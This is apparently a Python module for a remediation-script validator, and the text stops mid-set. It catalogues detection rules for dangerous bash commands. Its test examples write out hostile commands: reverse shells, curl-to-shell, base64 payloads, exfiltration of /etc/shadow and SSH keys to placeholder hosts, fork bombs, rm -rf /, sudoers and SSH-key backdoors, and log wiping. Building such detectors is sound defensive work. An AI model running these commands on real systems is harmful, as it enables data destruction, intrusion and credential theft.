"""Safety rules over normalised bash commands, with the catalogue and self-test examples.

Every rule looks at :class:`~remediation.validation.bash_walk.Command` objects (argv after quoting,
variables, wrappers and aliases are resolved), never at raw text. :data:`RULES` is the catalogue:
severity, what the rule catches, how to fix it, and examples that must and must not match; the
tests run every example, and docs/rules/bash.md is written from the same facts.
"""

from __future__ import annotations

import fnmatch
import posixpath
import re
from dataclasses import dataclass
from typing import Protocol

from remediation.validation.bash_scope import ScopeRules, scope_lists_set
from remediation.validation.bash_walk import DEFERRING_WRAPPERS, Command, Redirect
from remediation.validation.bash_words import SPLIT, UNKNOWN, Word, _pure_stage, normalise_name
from remediation.validation.types import Severity, TargetSystem, ValidationContext


@dataclass(frozen=True, slots=True)
class RuleSpec:
    severity: Severity
    summary: str
    hint: str
    match: tuple[str, ...]
    not_match: tuple[str, ...] = ()


C, H, M, L = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW

RULES: dict[str, RuleSpec] = {
    "bash.rm_root": RuleSpec(
        C,
        "Recursive delete of /, a top-level directory, a home directory or a glob over them.",
        "Delete a literal, scoped path such as /var/cache/app/tmp; never / or a top-level directory.",
        (
            "rm -rf /",
            "rm -fr /*",
            "rm -r -f --no-preserve-root /",
            "rm -rf //",
            "rm -rf /tmp/../etc",
            "rm -rf ~",
            'rm -rf "$HOME"',
            "rm --recursive --force /usr",
            "for d in /etc /var; do rm -rf $d; done",
        ),
        (
            "rm -rf /var/cache/app/*",
            'rm -rf "${DIR:?}/cache"',
            "rm -rf ./node_modules dist",
            "rm -f /tmp/x.lock",
            "rm -rf ~/.cache/pip",
        ),
    ),
    "bash.rm_system_path": RuleSpec(
        H,
        "Delete of a critical system file or directory (/etc/passwd, /var/lib, /boot, database data).",
        "Remove only the application's own files; system files are changed by their package tools.",
        (
            "rm -f /etc/passwd",
            "rm -rf /var/lib/postgresql/data",
            "rm -rf /var/log",
            "rm -rf /var/spool/cron",
            "rm -rf /usr/lib/x86_64-linux-gnu",
        ),
        ("rm -rf /var/lib/app/tmp", "rm -f /var/log/app/old.log", "rm /etc/nginx/sites-enabled/old.conf"),
    ),
    "bash.rm_unguarded_var": RuleSpec(
        H,
        "Delete whose path starts with a variable that may be empty, so it can expand to / (SC2115).",
        'Guard the variable: rm -rf "${DIR:?}/cache", or assign it a literal earlier in the script.',
        ('rm -rf "$DIR/"*', "rm -rf $STEAMROOT/*", 'rm -rf "$1/cache"', 'x=$(get_dir); rm -rf "$x/"'),
        ('rm -rf "${DIR:?}/"*', 'DIR=/var/cache/app; rm -rf "$DIR/"*', 'tmp=$(mktemp -d); rm -rf "$tmp"'),
    ),
    "bash.rm_relative_glob": RuleSpec(
        H,
        "Recursive delete of *, . or .. in whatever the current directory happens to be.",
        "Use an absolute, literal path (rm -rf /opt/app/build/*) instead of relying on cd.",
        ("cd /opt/app; rm -rf *", "rm -rf .", "rm -rf ../*", "rm -rf .*"),
        ("rm -rf ./build", "rm -f *.tmp"),
    ),
    "bash.rm_unresolved_target": RuleSpec(
        M,
        "Recursive delete of a path the script never sets (an outside variable or command output).",
        "Set the path to a literal in the script, or guard it with ${VAR:?} and a scoped prefix.",
        ('rm -rf "$TARGET"', "rm -rf $(cat /tmp/list)"),
        ('tmp=$(mktemp -d); rm -rf "$tmp"', 'rm -rf "${TARGET:?}"'),
    ),
    "bash.find_delete_root": RuleSpec(
        C,
        "find that deletes (-delete, -exec rm) starting at / or a system directory.",
        "Start find at the application directory and bound it with -name/-mtime predicates.",
        (
            "find / -name '*.log' -delete",
            "find / -type f -exec rm -f {} +",
            "find /etc -delete",
            "find / | xargs rm -rf",
        ),
        (
            "find /var/log/app -name '*.gz' -mtime +14 -delete",
            "find /tmp -maxdepth 1 -name 'job-*' -mmin +60 -delete",
            "find / -name core -print",
        ),
    ),
    "bash.chmod_chown_root": RuleSpec(
        C,
        "Recursive chmod/chown/chgrp of / or a system directory, or world-writable system files.",
        "Change permissions on the application's own files only; tighten, do not loosen.",
        (
            "chmod -R 777 /",
            "chown -R nobody:nogroup /",
            "chmod 666 /etc/shadow",
            "chown -R user /etc",
            "chmod -R o+w /usr",
        ),
        ("chmod 600 ~/.ssh/id_ed25519", "chown -R app:app /var/lib/app", "chmod 755 /opt/app/bin/run.sh"),
    ),
    "bash.setuid": RuleSpec(
        H,
        "Sets the setuid/setgid bit or file capabilities that grant root (privilege-escalation backdoor).",
        "Do not add setuid bits or cap_setuid/cap_sys_admin capabilities in a remediation.",
        ("chmod u+s /bin/bash", "chmod 4755 /usr/bin/find", "setcap cap_setuid+ep /usr/bin/python3"),
        ("chmod 0755 /usr/local/bin/tool", "chmod g+w /srv/shared"),
    ),
    "bash.block_device_write": RuleSpec(
        C,
        "Writes to, formats, partitions or wipes a block device (dd of=/dev/sdX, mkfs, wipefs, fdisk, > /dev/sda).",
        "Never write raw devices from a remediation; hand disk work to a human with the device verified.",
        (
            "dd if=/dev/zero of=/dev/sda bs=1M",
            "mkfs.ext4 /dev/sdb1",
            "wipefs -a /dev/sdb",
            "echo x > /dev/nvme0n1",
            "cat img > /dev/sda",
            "fdisk /dev/sda",
            "parted /dev/sda rm 1",
            "blkdiscard /dev/sda",
            "shred -n3 /dev/sda",
            "mkfs -t xfs /dev/vdb",
        ),
        (
            "dd if=/dev/zero of=/swapfile bs=1M count=2048",
            "mkswap /swapfile",
            "echo hi > /dev/null",
            "parted -l",
            "fdisk -l",
        ),
    ),
    "bash.data_destruction": RuleSpec(
        H,
        "Irreversibly destroys data files (shred, truncating database files, moving system dirs away).",
        "Back up and remove only what the RCA names; use the service's own tooling for data cleanup.",
        (
            "shred -n3 -u /var/lib/postgresql/data/base/1",
            "truncate -s 0 /var/lib/mysql/ibdata1",
            "mv /etc /tmp/x",
            "cp /dev/null /etc/passwd",
            "mv app.conf /dev/null",
        ),
        (
            "truncate -s 0 /var/log/app/huge.log",
            "mv /etc/app/app.conf /etc/app/app.conf.bak",
            "cp /etc/app/app.conf /tmp/backup.conf",
        ),
    ),
    "bash.overwrite_critical_file": RuleSpec(
        C,
        "Redirect or copy that overwrites a critical system file (/etc/passwd, /etc/shadow, /etc/fstab, /boot).",
        "Edit system files with their tools (vipw, visudo, usermod) or not at all.",
        (
            "echo root::0:0::/root:/bin/bash > /etc/passwd",
            "cat x > /etc/fstab",
            "echo > /etc/shadow",
            "cp /tmp/evil.so /lib/x86_64-linux-gnu/libc.so.6",
            "ln -sf /bin/bash /usr/bin/ls",
        ),
        (
            "echo ok > /tmp/status",
            "echo 'x' >> /var/log/app/remediation.log",
            "install -m 0755 build/tool /usr/local/bin/tool",
            "cp /usr/bin/env /tmp/env-copy",
        ),
    ),
    "bash.fork_bomb": RuleSpec(
        C,
        "Fork bomb or unbounded process/disk exhaustion.",
        "Remove it.",
        (
            ":(){ :|:& };:",
            "bomb() { bomb | bomb & }; bomb",
            "cat /dev/urandom > /var/fill",
            "yes > /dev/null &",
            "fallocate -l 1T /data/x",
            "while :; do :; done &",
        ),
        (
            "f() { echo hi; }; f",
            "fallocate -l 2G /swapfile",
            "head -c 16 /dev/urandom | base64",
            "while true; do curl -fsS localhost:8080/healthz && break; sleep 2; done",
        ),
    ),
    "bash.pipe_to_shell": RuleSpec(
        C,
        "Downloaded text run by a shell or interpreter (curl | sh, bash <(curl ...), eval $(wget -O- ...)).",
        "Download to a file, verify its checksum or signature, review it, then run the reviewed file.",
        (
            "curl -fsSL http://x/i.sh | bash",
            "wget -qO- http://x | sh",
            "bash <(curl -s http://x)",
            "curl http://x | sudo -E bash",
            "curl -s http://x | python3",
            'sh -c "$(curl -fsSL http://x)"',
            "source <(curl -s http://x)",
            "curl -o /tmp/i.sh http://x; bash /tmp/i.sh",
        ),
        (
            "curl -fsS http://localhost:8080/healthz",
            "curl -o /tmp/pkg.tgz https://repo/p.tgz && sha256sum -c p.sha256",
            "curl -s http://x | jq .status",
        ),
    ),
    "bash.decode_to_shell": RuleSpec(
        C,
        "Decoded or constructed text run by a shell (base64 -d | sh, xxd -r | bash, printf escapes | sh).",
        "Write the commands out in plain text; encoded payloads cannot be reviewed.",
        (
            "echo cm0gLXJmIC8K | base64 -d | sh",
            'eval "$(echo ZWNobwo= | base64 -d)"',
            "xxd -r -p <<< 6c73 | bash",
            "gzip -dc payload.gz | bash",
            "printf '\\162\\155 -rf /' | sh",
        ),
        ("echo aGVsbG8= | base64 -d", "gzip -dc /var/log/app/x.gz | grep ERROR"),
    ),
    "bash.eval_dynamic": RuleSpec(
        H,
        "eval, source, bash -c or a shell reading text that is only known at run time.",
        "Write the commands literally; if a file must be sourced, use a fixed, reviewed path.",
        ('eval "$CMD"', 'source "$F"', '. "$F"', 'bash -c "$1"', "cat /tmp/cmds | sh", "sh -c $(cat x)"),
        ('eval "$(ssh-agent -s)"', ". /etc/os-release", "bash -c 'echo hi'", "source /opt/app/env.sh"),
    ),
    "bash.dynamic_command": RuleSpec(
        H,
        "The command name comes from a variable, command substitution, array or glob that is not resolvable.",
        "Call commands by their literal names.",
        ("$CMD -rf /tmp/x", '"${cmds[@]}"', "$(get_tool) --force", "/???/?m -rf /tmp/x", "${!name} x"),
        ("c=systemctl; $c restart nginx", 'cmd=(systemctl restart nginx); "${cmd[@]}"'),
    ),
    "bash.obfuscated_command": RuleSpec(
        M,
        "The command name is spelled with quote splitting, escapes, decoding or word-splitting tricks.",
        "Write the command name plainly; obfuscated names are how payloads slip past review.",
        (
            "r''m -f /tmp/x",
            "$'\\x6c\\x73' /tmp",
            "$(printf '\\154\\163') /tmp",
            "l\\s /tmp",
            "x=(l s); ${x[0]}${x[1]} /",
        ),
        ("\\rm -f /tmp/x", "ls /tmp", "command -v ls"),
    ),
    "bash.non_ascii_command": RuleSpec(
        H,
        "Non-ASCII or invisible characters in a command name (homoglyphs, fullwidth letters, zero-width).",
        "Use plain ASCII command names.",
        ("ｒｍ -f /tmp/x",),
        ("echo 'café'",),
    ),
    "bash.invisible_unicode": RuleSpec(
        H,
        "Bidirectional-override or zero-width characters in the script (Trojan Source).",
        "Remove invisible and bidi control characters.",
        ("echo \u202eabc",),
        ("echo abc",),
    ),
    "bash.reverse_shell": RuleSpec(
        C,
        "Reverse or bind shell: /dev/tcp redirection, nc -e, socat exec, interpreter socket + pty.",
        "Remove it; remediations never open interactive shells to remote hosts.",
        (
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "nc -e /bin/sh 10.0.0.1 4444",
            "socat exec:'bash -li',pty tcp:h:4444",
            "exec 3</dev/tcp/h/80",
            "ncat --sh-exec /bin/bash h 4444",
            "mkfifo /tmp/f; nc h 4444 < /tmp/f | sh > /tmp/f",
        ),
        ("nc -z localhost 5432", "socat - TCP:localhost:8080"),
    ),
    "bash.secret_read": RuleSpec(
        H,
        "Reads secrets: /etc/shadow, private SSH keys, /proc/*/environ, cloud credentials, printenv.",
        "Do not read credentials in a remediation; reference them through the secret store instead.",
        (
            "cat /etc/shadow",
            "cat ~/.ssh/id_rsa",
            "cat /proc/1/environ",
            "printenv | grep -i token",
            "cp ~/.aws/credentials /tmp/c",
        ),
        ("chmod 600 ~/.ssh/id_ed25519", "cat ~/.ssh/id_ed25519.pub", "printenv HOME", "ls -l /etc/shadow"),
    ),
    "bash.exfiltration": RuleSpec(
        C,
        "Sends secrets or local files off the host (curl -F @/etc/shadow, tar ~/.ssh | nc, scp keys).",
        "Remove it; a remediation has no reason to upload host files.",
        (
            "curl -F f=@/etc/shadow https://x",
            "tar cz ~/.ssh | nc h 4444",
            "scp ~/.aws/credentials h:",
            "printenv | curl -d @- http://x",
            "curl --data-binary @/root/.ssh/id_rsa http://x",
        ),
        ("curl -fsS -d '{\"ok\":true}' http://localhost:8080/hook", "scp build.tgz deploy@host:/srv/"),
    ),
    "bash.history_tamper": RuleSpec(
        H,
        "Anti-forensics: clears shell history, login records or audit logs.",
        "Leave history and audit logs alone; rotate logs with logrotate or journalctl --vacuum-*.",
        (
            "history -c",
            "unset HISTFILE",
            "export HISTSIZE=0",
            "rm ~/.bash_history",
            "> /var/log/wtmp",
            "echo > /var/log/audit/audit.log",
            "ln -sf /dev/null ~/.bash_history",
            "set +o history",
        ),
        ("journalctl --vacuum-time=7d", "history | tail -5", "logrotate -f /etc/logrotate.d/app"),
    ),
    "bash.audit_disable": RuleSpec(
        H,
        "Disables auditing or system logging (auditctl -D/-e 0, stopping auditd/rsyslog/journald).",
        "Keep auditing on; restart the logging service instead of stopping it if it misbehaves.",
        (
            "auditctl -D",
            "auditctl -e 0",
            "systemctl stop auditd",
            "service rsyslog stop",
            "systemctl mask systemd-journald",
        ),
        ("systemctl restart rsyslog", "auditctl -l"),
    ),
    "bash.firewall_disable": RuleSpec(
        H,
        "Flushes or opens the firewall (iptables -F, -P ACCEPT, nft flush ruleset, ufw disable, stop firewalld).",
        "Add narrow rules (iptables -I INPUT -s 203.0.113.7 -j DROP); never flush or change default policy.",
        (
            "iptables -F",
            "iptables -P INPUT ACCEPT",
            "nft flush ruleset",
            "ufw disable",
            "systemctl stop firewalld",
            "iptables --flush",
            "ufw --force reset",
        ),
        ("iptables -I INPUT -s 203.0.113.7 -j DROP", "ufw deny from 203.0.113.7", "iptables -L -n"),
    ),
    "bash.mac_disable": RuleSpec(
        H,
        "Disables SELinux or AppArmor.",
        "Fix the policy denial (audit2allow, a boolean) instead of disabling mandatory access control.",
        (
            "setenforce 0",
            "sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config",
            "systemctl stop apparmor",
            "aa-teardown",
        ),
        ("getenforce", "sestatus", "setsebool -P httpd_can_network_connect 1"),
    ),
    "bash.power_state": RuleSpec(
        C,
        "Shuts down, reboots or halts the host (shutdown, reboot, init 0, sysrq, systemctl isolate rescue).",
        "Restart the failing service, not the host; host reboots go through maintenance windows.",
        (
            "shutdown -h now",
            "reboot",
            "poweroff",
            "halt",
            "init 0",
            "systemctl reboot",
            "echo b > /proc/sysrq-trigger",
            "systemctl isolate rescue.target",
            "telinit 6",
        ),
        ("systemctl restart nginx", "echo 'reboot required' >> /tmp/notes", "last reboot"),
    ),
    "bash.kill_all": RuleSpec(
        C,
        "Kills every process (kill -9 -1), init, or whole classes of processes (killall, pkill -u root).",
        "Signal one scoped PID (kill -HUP $(cat /run/nginx.pid)) or one pattern (pkill -f 'celery worker -Q slow').",
        ("kill -9 -1", "kill -KILL -1", "killall5 -9", "pkill -9 -u root", "killall -9 java", "kill -9 1"),
        ("kill -HUP $(cat /run/nginx.pid)", "pkill -f 'celery worker -Q slow'", "kill -9 12345", "killall -HUP nginx"),
    ),
    "bash.remote_lockout": RuleSpec(
        H,
        "Cuts remote access: stops/masks sshd, takes network interfaces or routes down.",
        "Restart sshd instead of stopping it; change network config through a tested, reversible path.",
        (
            "systemctl stop sshd",
            "systemctl mask ssh",
            "ip link set eth0 down",
            "ip route del default",
            "ifdown eth0",
            "nmcli networking off",
        ),
        ("systemctl restart sshd", "ip link show", "ip route show"),
    ),
    "bash.account_change": RuleSpec(
        H,
        "Deletes, locks or escalates user accounts, or edits /etc/passwd, /etc/shadow, /etc/group directly.",
        "Account changes are not remediations; open a change request.",
        (
            "userdel -r admin",
            "passwd -d root",
            "usermod -L ops",
            "sed -i '/^root/d' /etc/passwd",
            "usermod -aG sudo x",
            "useradd -o -u 0 backdoor",
            "echo 'root:x' | chpasswd",
        ),
        ("id app", "getent passwd app"),
    ),
    "bash.sudoers": RuleSpec(
        C,
        "Writes sudoers rules (privilege grant).",
        "Never grant sudo from a remediation.",
        (
            "echo 'app ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
            "tee /etc/sudoers.d/x <<< 'x ALL=(ALL) ALL'",
            "cp x /etc/sudoers.d/app",
        ),
        ("visudo -c", "sudo -l"),
    ),
    "bash.ssh_keys": RuleSpec(
        C,
        "Adds SSH authorized keys or removes their immutability (SSH key injection).",
        "Manage SSH access through configuration management, not remediation scripts.",
        (
            "echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys",
            "chattr -i ~/.ssh/authorized_keys",
            "cat key.pub | tee -a ~/.ssh/authorized_keys",
        ),
        ("ssh-keygen -R old-host", "cat ~/.ssh/authorized_keys | wc -l"),
    ),
    "bash.env_injection": RuleSpec(
        C,
        "Library or startup-code injection: LD_PRELOAD, /etc/ld.so.preload, BASH_ENV, ENV, PROMPT_COMMAND, PATH.",
        "Do not set loader or shell-startup variables; call binaries by absolute path instead of editing PATH.",
        (
            "export LD_PRELOAD=/tmp/x.so",
            "echo /tmp/x.so > /etc/ld.so.preload",
            "BASH_ENV=/tmp/e bash s.sh",
            "ENV=/tmp/e sh",
            "export PATH=/tmp:$PATH",
            "export PROMPT_COMMAND='curl x'",
            "read BASH_ENV <<< /tmp/e",
        ),
        ("export PATH=/usr/local/bin:$PATH", "export LANG=C.UTF-8"),
    ),
    "bash.startup_file": RuleSpec(
        H,
        "Writes shell startup files (~/.bashrc, /etc/profile.d, /etc/environment): persistent booby-traps.",
        "Do not edit login scripts from a remediation.",
        ("echo 'alias ls=\"rm -rf ~\"' >> ~/.bashrc", "echo x >> /etc/profile", "cp x.sh /etc/profile.d/x.sh"),
        ("cat ~/.bashrc", "grep PATH /etc/environment"),
    ),
    "bash.dns_hijack": RuleSpec(
        H,
        "Rewrites name resolution (/etc/resolv.conf, /etc/hosts).",
        "Change DNS through the network manager configuration with review.",
        ("echo 'nameserver 6.6.6.6' > /etc/resolv.conf", "echo '1.2.3.4 bank.com' >> /etc/hosts"),
        ("cat /etc/resolv.conf", "getent hosts db"),
    ),
    "bash.cron": RuleSpec(
        H,
        "Wipes crontabs or installs cron persistence.",
        "Schedule jobs through configuration management, not a remediation.",
        (
            "crontab -r",
            "(crontab -l; echo '* * * * * x') | crontab -",
            "echo '* * * * * root x' > /etc/cron.d/x",
            "crontab /tmp/cron.txt",
        ),
        ("crontab -l",),
    ),
    "bash.deferred_execution": RuleSpec(
        H,
        "Defers commands past the script (at, batch, systemd-run, trap on EXIT doing damage).",
        "Run what is needed now, in the reviewed script; do not schedule more work.",
        ("at now + 1 min <<< 'reboot'", "echo x | at midnight", "systemd-run --on-active=60 /bin/true"),
        ("atq",),
    ),
    "bash.destructive_cli": RuleSpec(
        H,
        "Destructive infrastructure CLI: kubectl delete ns/--all, dropdb, FLUSHALL, terraform destroy, helm uninstall.",
        "Use the narrow remediation (rollout restart/undo, delete one named pod, helm rollback).",
        (
            "kubectl delete ns prod",
            "kubectl delete all --all -A",
            "kubectl delete pvc --all",
            "helm uninstall db",
            "terraform destroy -auto-approve",
            "aws s3 rm s3://b --recursive",
            "docker system prune -a --volumes -f",
            "redis-cli FLUSHALL",
            "dropdb prod",
            "git push --force origin main",
            "kubectl scale deploy web --replicas=0",
            "git -C / reset --hard",
        ),
        (
            "kubectl rollout restart deployment/web -n prod",
            "kubectl delete pod web-7d9f-x -n prod",
            "kubectl scale deploy web --replicas=6",
            "helm rollback web 41",
            "docker image prune -f",
            "kubectl delete namespace preview-pr-1234",
            "kubectl delete pod --field-selector=status.phase==Failed -n jobs",
            "git push --force-with-lease",
            "redis-cli PING",
        ),
    ),
    "bash.critical_service_stop": RuleSpec(
        M,
        "Stops, disables or masks a service (not a restart/reload).",
        "Prefer restart or reload; stopping a service is an outage until someone starts it.",
        ("systemctl stop nginx", "systemctl disable --now postgresql", "service app stop"),
        (
            "systemctl restart nginx",
            "systemctl reload postgresql",
            "systemctl stop app; rm -rf /var/cache/app/*; systemctl start app",
        ),
    ),
    "bash.package_remove_critical": RuleSpec(
        H,
        "Removes packages the host cannot run without (openssh-server, sudo, systemd, libc, coreutils).",
        "Do not remove base system packages.",
        ("apt-get remove -y openssh-server", "yum remove -y sudo", "rpm -e --nodeps glibc"),
        ("apt-get install -y jq", "apt-get remove -y apache2-doc"),
    ),
    "bash.kernel_security": RuleSpec(
        M,
        "Weakens kernel security settings (ASLR off, suid dumps, forwarding) or loads modules from temp dirs.",
        "Tune performance parameters only (vm.max_map_count, somaxconn).",
        ("sysctl -w kernel.randomize_va_space=0", "echo 0 > /proc/sys/kernel/randomize_va_space", "insmod /tmp/x.ko"),
        ("sysctl -w vm.max_map_count=262144", "sysctl -w net.core.somaxconn=4096"),
    ),
    "bash.exec_from_tmp": RuleSpec(
        M,
        "Runs a program from a world-writable directory (/tmp, /dev/shm, /var/tmp).",
        "Run installed, reviewed binaries from system paths.",
        ("/tmp/x -rf /", "/dev/shm/.a"),
        ("/usr/local/bin/tool --check",),
    ),
    "bash.interpreter_exec": RuleSpec(
        H,
        "Inline perl/ruby/node/php/awk/sed code that runs system commands.",
        "Use plain shell commands the validator can read.",
        (
            "perl -e 'system(\"id\")'",
            "awk 'BEGIN{system(\"id\")}'",
            "sed '1e id' f",
            "ruby -e '`id`'",
            "tar -cf /dev/null x --checkpoint-action=exec=sh",
        ),
        ("perl -pi -e 's/a/b/' /etc/app/app.conf", "awk '{print $1}' /var/log/app/x.log", "sed -i 's/a/b/' f"),
    ),
    "bash.remote_command": RuleSpec(
        M,
        "Runs commands on another host over ssh (scope the validator cannot see).",
        "Run the remediation on the target host itself.",
        ("ssh prod-host 'systemctl restart nginx'",),
        ("ssh-keygen -R old-host",),
    ),
    "bash.brace_explosion": RuleSpec(
        M,
        "Brace expansion producing too many words to check.",
        "Spell the arguments out.",
        ("echo {a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}",),
        ("echo {a,b}",),
    ),
    "embedded.unvalidated": RuleSpec(
        M,
        "Embedded code in a language whose validator is not available, so it was not checked.",
        "Install or enable the validator for that language, or move the code into its own script.",
        (),
    ),
}

#: The service allow-lists every scope rule example below is checked with. Each list left empty means
#: "no restriction known": under the default context the same examples must not fire
#: (tests/validation/test_scope.py checks both ways).
SCOPE_EXAMPLE_CONTEXT = ValidationContext(
    target_system=TargetSystem.LINUX,
    allowed_paths=("/var/log/app", "/opt/app"),
    allowed_hosts=("api.shop.internal", ".svc.cluster.local"),
    allowed_namespaces=("shop",),
    allowed_databases=("app",),
)

#: Rules that compare what the script touches with the service's allow-lists (see
#: :mod:`remediation.validation.bash_scope`); silent while the matching list is empty.
SCOPE_RULES: dict[str, RuleSpec] = {
    "scope.path": RuleSpec(
        M,
        "Writes, deletes, moves, chmods/chowns or truncates a path outside every allowed path (rm, mv, cp/install/ln "
        "destination, tee, > and >>, truncate, find -delete roots, sed -i, touch, mkdir, dd of=, curl -o); /tmp and "
        "mktemp files are always allowed. A path known only at run time, or relative with no literal cd, fires too.",
        "Touch only files under the service's allowed paths, spelled as literal absolute paths.",
        (
            "rm -f /etc/nginx/conf.d/old.conf",
            "echo 1 > /var/lib/other/flag",
            "cp app.conf /opt/app/../../etc/app.conf",
            "find /var/log -name '*.gz' -delete",
            "sed -i 's/a/b/' /etc/app.conf",
            'rm -rf "$TARGET_DIR/cache"',
            "chown -R app:app /srv/data",
            "truncate -s 0 /var/log/syslog",
            "mv /opt/app/current /srv/old",
            "echo ok > status.txt",
            "find /data -type f | xargs rm -f",
        ),
        (
            "rm -f /var/log/app/old.log",
            "echo done >> /opt/app/state/last-run",
            'tmp=$(mktemp -d); cp /opt/app/app.conf "$tmp/"; rm -rf "$tmp"',
            "find /var/log/app -name '*.gz' -mtime +14 -delete",
            "sed -i 's/a/b/' /opt/app/app.conf",
            "curl -fsS http://localhost:8080/healthz > /dev/null 2>&1",
            "cd /opt/app && rm -f stale.lock",
            "truncate -s 0 /var/log/app/huge.log",
            'for f in /var/log/app/*.log; do gzip "$f"; done',
            "cp /etc/app/app.conf /tmp/backup.conf",
        ),
    ),
    "scope.host": RuleSpec(
        M,
        "Connects to a host outside the allowed hosts: curl/wget URLs, ssh/scp/rsync/sftp hosts, psql -h and "
        "connection URIs, nc/socat peers, /dev/tcp. Loopback is always allowed; a host known only at run time fires.",
        "Call only the hosts the service may reach, or add the host to its allowed hosts.",
        (
            "curl -fsS https://status.other.example/api",
            "wget -q -O /tmp/x.tgz http://mirror.example.org/x.tgz",
            "ssh deploy@bastion.corp 'uptime'",
            "scp /tmp/report.txt ops@backup.corp:/srv/",
            "psql -h db.other.internal -d app -c 'SELECT 1'",
            'curl -fsS "$WEBHOOK_URL"',
            "nc -z cache.other.internal 6379",
            "rsync -a /tmp/out/ backup.corp::reports",
        ),
        (
            "curl -fsS https://api.shop.internal/health",
            "curl -fsS http://localhost:8080/healthz",
            "psql -h web.shop.svc.cluster.local -d app -c 'SELECT 1'",
            "nc -z 127.0.0.1 5432",
            "rsync -a /var/log/app/ /tmp/logs/",
            "wget -qO- http://api.shop.internal/ready",
        ),
    ),
    "scope.namespace": RuleSpec(
        H,
        "kubectl/helm acting in a namespace outside the allowed namespaces (-n/--namespace, a namespace it "
        "creates or deletes, --all-namespaces on a change); the Kubernetes validator uses the same id for manifests.",
        "Act only in the service's namespaces; name them with -n.",
        (
            "kubectl rollout restart deployment/web -n payments",
            "kubectl --namespace=kube-system delete pod coredns-1",
            "helm rollback web 41 -n other",
            "kubectl delete pods --field-selector=status.phase==Failed -A",
            'kubectl scale deploy/web --replicas=3 -n "$NS"',
        ),
        (
            "kubectl rollout restart deployment/web -n shop",
            "kubectl get pods -A",
            "helm rollback web 41 --namespace shop",
            "kubectl cordon node-7",
        ),
    ),
    "scope.namespace_unset": RuleSpec(
        M,
        "A changing kubectl/helm command that names no namespace while the allowed namespaces are set: it acts in "
        "whatever namespace the kubeconfig selects (manifests given with -f carry their own and are checked there).",
        "Add -n with one of the service's namespaces.",
        ("kubectl rollout restart deployment/web", "helm upgrade web ./chart"),
        ("kubectl rollout restart deployment/web -n shop", "kubectl get pods", "kubectl apply -f /opt/app/k8s.yaml"),
    ),
    "scope.database": RuleSpec(
        M,
        "psql (and pg_dump, vacuumdb, createdb ...) connecting to a database outside the allowed databases: -d, "
        "--dbname, the first operand, dbname= in a conninfo, a postgres:// URI, PGDATABASE; a run-time name fires.",
        "Connect only to the service's databases.",
        (
            "psql -d billing -c 'SELECT 1'",
            "psql postgresql://app@db.shop.internal/billing -c 'SELECT 1'",
            "vacuumdb --dbname=analytics",
            'psql "$DATABASE_URL" -c "SELECT 1"',
            "PGDATABASE=billing psql -c 'SELECT 1'",
        ),
        (
            "psql -d app -c 'SELECT 1'",
            "psql -At -c 'SELECT 1' app",
            "psql 'host=localhost dbname=app' -c 'SELECT 1'",
            "psql -c 'SELECT 1'",
        ),
    ),
}

# ---------------------------------------------------------------------------------------------
# Vocabulary

SHELLS = {"sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "fish", "csh", "tcsh", "rbash"}
PYTHONS = re.compile(r"^(python|python[23](\.\d+)?|pypy3?)$")
OTHER_INTERPRETERS = {"perl", "ruby", "node", "nodejs", "php", "lua", "tclsh", "Rscript", "deno", "bun", "osascript"}
DOWNLOADERS = {"curl", "wget", "fetch", "aria2c", "lwp-download", "lwp-request", "GET", "tftp", "http", "xh"}
DECODERS = {
    "base64",
    "base32",
    "xxd",
    "openssl",
    "gzip",
    "gunzip",
    "zcat",
    "bzcat",
    "xzcat",
    "uudecode",
    "rev",
    "tr",
    "bzip2",
    "xz",
    "zstd",
    "unzstd",
    "lzcat",
}
NETWORK_SENDERS = {
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "scp",
    "sftp",
    "rsync",
    "ssh",
    "ftp",
    "mail",
    "sendmail",
    "mailx",
    "http",
    "xh",
}
PIPE_PASSTHROUGH = {"tee", "cat", "dd", "pv", "buffer"}
READERS = {
    "cat",
    "less",
    "more",
    "head",
    "tail",
    "cp",
    "tar",
    "zip",
    "gzip",
    "base64",
    "xxd",
    "od",
    "strings",
    "grep",
    "egrep",
    "awk",
    "sed",
    "dd",
    "openssl",
    "gpg",
    "scp",
    "rsync",
    "curl",
    "nc",
    "tac",
    "nl",
    "vi",
    "vim",
    "nano",
    "python",
    "python3",
    "install",
    "sort",
    "uniq",
    "cut",
}

SECRET_PATTERNS = (
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/shadow-",
    "*/.ssh/id_*",
    "~/.ssh/id_*",
    "/proc/*/environ",
    "*/.aws/credentials",
    "~/.aws/credentials",
    "*/.kube/config",
    "~/.kube/config",
    "/etc/kubernetes/admin.conf",
    "/etc/ssl/private/*",
    "*/.docker/config.json",
    "~/.docker/config.json",
    "*/.netrc",
    "~/.netrc",
    "*/.pgpass",
    "~/.pgpass",
    "/var/run/secrets/kubernetes.io/serviceaccount/*",
    "/run/secrets/*",
    "*/.git-credentials",
    "~/.git-credentials",
    "*/.vault-token",
    "~/.vault-token",
    "/etc/rancher/k3s/k3s.yaml",
    "*/.gnupg/*",
    "~/.gnupg/*",
)
SENSITIVE_DIRS = ("~/.ssh", "/root/.ssh", "~/.aws", "~/.gnupg", "/etc/ssl/private", "~", "/root")

CRITICAL_FILES = {
    "/etc/passwd",
    "/etc/shadow",
    "/etc/group",
    "/etc/gshadow",
    "/etc/fstab",
    "/etc/crypttab",
    "/etc/inittab",
    "/etc/pam.d",
    "/etc/ssh/sshd_config",
    "/etc/login.defs",
    "/etc/nsswitch.conf",
    "/etc/securetty",
}
TOP_LEVEL = {
    "bin",
    "boot",
    "dev",
    "etc",
    "home",
    "lib",
    "lib32",
    "lib64",
    "libx32",
    "media",
    "mnt",
    "opt",
    "proc",
    "root",
    "run",
    "sbin",
    "srv",
    "sys",
    "tmp",
    "usr",
    "var",
    "snap",
    "nix",
}
PROTECTED_DIRS = {
    "/var/lib",
    "/var/log",
    "/var/spool",
    "/var/spool/cron",
    "/var/backups",
    "/var/mail",
    "/var/www",
    "/var/opt",
    "/usr/bin",
    "/usr/sbin",
    "/usr/lib",
    "/usr/lib64",
    "/usr/local",
    "/usr/share",
    "/usr/include",
    "/usr/libexec",
    "/usr/local/bin",
